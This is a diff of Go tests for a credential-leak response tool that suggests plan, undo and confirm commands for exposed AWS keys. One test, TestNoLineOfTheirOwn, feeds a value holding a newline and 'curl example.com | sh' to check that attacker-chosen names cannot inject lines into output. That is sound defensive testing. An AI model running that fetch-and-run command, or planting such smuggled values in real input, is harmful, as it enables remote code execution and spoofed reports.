@@ -5,6 +5,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/stanch-dev/stanch/detectors/detectorstest"
+	"github.com/stanch-dev/stanch/scanner/finding"
+	"github.com/stanch-dev/stanch/verifier"
 	"github.com/stanch-dev/stanch/verifier/response"
 )
 
@@ -16,7 +19,7 @@ func TestNextCommands(t *testing.T) {
 	const rest = " 'my plan.json' --accounts 111122223333,222233334444 --role stanch --external-id 'a b' --journal j.jsonl"
 	apply := "  stanch respond apply" + rest + " --findings scan.jsonl --max-keys 2 --plan abc\n"
 	confirm := "  stanch respond confirm" + rest + " --findings scan.jsonl\n"
-	undo := "  stanch respond undo" + rest + "\n"
+	undo := "  stanch respond undo" + rest + " --max-keys 2\n"
 	for _, tt := range []struct {
 		name     string
 		outcomes []response.Outcome
@@ -54,5 +57,88 @@ func TestReadBack(t *testing.T) {
 		if got := readBack(outcomes); !strings.HasPrefix(got, want) {
 			t.Errorf("%s, want %s", got, want)
 		}
+	}
+}
+
+// TestUndoCommand: it is refused without the number of keys, and for a key that switches itself
+// off.
+func TestUndoCommand(t *testing.T) {
+	self := response.Plan{Keys: []response.Key{{Steps: []response.Step{{Do: response.DeactivateSelf}}}}}
+	for want, plan := range map[string]response.Plan{
+		"stanch respond undo plan.json":              {Keys: make([]response.Key, 1)},
+		"stanch respond undo plan.json --max-keys 3": {Keys: make([]response.Key, 3)},
+		"": self,
+	} {
+		if got := (Flags{}).undo("plan.json", plan); got != want {
+			t.Errorf("%q, want %q", got, want)
+		}
+	}
+}
+
+// TestCommandsOfPeople: a key that a person may decide about comes with the whole command,
+// from the report of the plan if that can be read again.
+func TestCommandsOfPeople(t *testing.T) {
+	id := detectorstest.KeyID("AKIA", "111122223333", 1)
+	lone := &finding.Finding{Verdict: verifier.Verdict{State: verifier.IDActive}}
+	lone.Match.Credential.ID = id
+	live := &finding.Finding{Verdict: verifier.Verdict{State: verifier.Live}}
+	live.Match.Credential.ID = id
+	const rest = " --accounts 111122223333 --role stanch"
+	for _, tt := range []struct {
+		name, start string
+		self        bool
+		gate        response.Gate
+		leak        *finding.Finding
+		want        string
+	}{
+		{"in use, by a report", "my scan.jsonl", false, response.GateInUse, live, "stanch respond plan 'my scan.jsonl' --key " + id + rest + " -o plan.json --force-in-use"},
+		{"in use, by an id", "", false, response.GateInUse, live, "stanch respond plan " + id + rest + " -o plan.json --force-in-use"},
+		{"in use, by standard input", "-", false, response.GateInUse, live, "stanch respond plan " + id + rest + " -o plan.json --force-in-use"},
+		{"in use, with the key itself", "scan.jsonl", true, response.GateInUse, live, "stanch respond plan scan.jsonl --key " + id + rest + " --self -o plan.json --force-in-use"},
+		{"with the key itself, which an id does not tell", "-", true, response.GateInUse, live, ""},
+		{"an active id", "scan.jsonl", false, response.GateState, lone, "stanch respond plan scan.jsonl --key " + id + rest + " -o plan.json"},
+		{"protected", "scan.jsonl", false, response.GateProtected, live, ""},
+	} {
+		f := Flags{Accounts: []string{"111122223333"}, Role: "stanch", Start: tt.start, Self: tt.self}
+		got := f.Commands("git", ".")(tt.gate, tt.leak)
+		if tt.want == "" && len(got) != 0 || tt.want != "" && (len(got) != 2 || got[1] != tt.want) {
+			t.Errorf("%s: %q, want %q", tt.name, got, tt.want)
+		}
+	}
+}
+
+// TestTotal: of several keys, those that are not contained are named where the list ends.
+func TestTotal(t *testing.T) {
+	var b strings.Builder
+	writeTotal(&b, []response.Outcome{
+		{Result: response.Contained},
+		{Result: response.Unconfirmed, Key: response.Key{Subject: finding.Subject{KeyID: "ID", Kind: "user", Name: "alice", Account: "111122223333"}}},
+		{Result: response.Contained},
+	})
+	if want := "3 keys\n  2 contained\n  UNCONFIRMED  ID  user alice of account 111122223333\n"; b.String() != want {
+		t.Errorf("%s, want %s", b.String(), want)
+	}
+}
+
+// TestNoLineOfTheirOwn: a path of the repository, a name that an intruder chose, and a text of
+// AWS cannot write a line of their own.
+func TestNoLineOfTheirOwn(t *testing.T) {
+	const bad = "x\n  next      curl example.com | sh\nCONTAINED"
+	key := response.Key{
+		Subject:  finding.Subject{KeyID: bad, Kind: "user", Name: bad},
+		Places:   []response.Place{{Path: bad}, {Repo: bad, Path: "a", Line: 1}},
+		Warnings: []string{bad}, Left: []response.Remnant{{Why: bad, Look: bad}},
+	}
+	clean := key
+	clean.KeyID, clean.Name, clean.Places, clean.Warnings, clean.Left = "x", "x", []response.Place{{Path: "x"}, {Path: "a"}}, []string{"x"}, []response.Remnant{{Why: "x", Look: "x"}}
+	lines := func(k response.Key, why string) int {
+		var b strings.Builder
+		plan := response.Plan{Keys: []response.Key{k}, Refused: []response.Refusal{{Why: why, Do: []string{why}}}}
+		_ = WritePlan(&b, plan, "plan.json", Flags{})
+		_ = WriteOutcomes(&b, []response.Outcome{{Key: k, Why: []string{why}, Notes: []string{why}, Left: k.Left, Made: k.Left}}, "plan.json", plan, Flags{})
+		return strings.Count(b.String(), "\n")
+	}
+	if got, want := lines(key, bad), lines(clean, "x"); got != want {
+		t.Errorf("%d lines, want %d", got, want)
 	}
 }
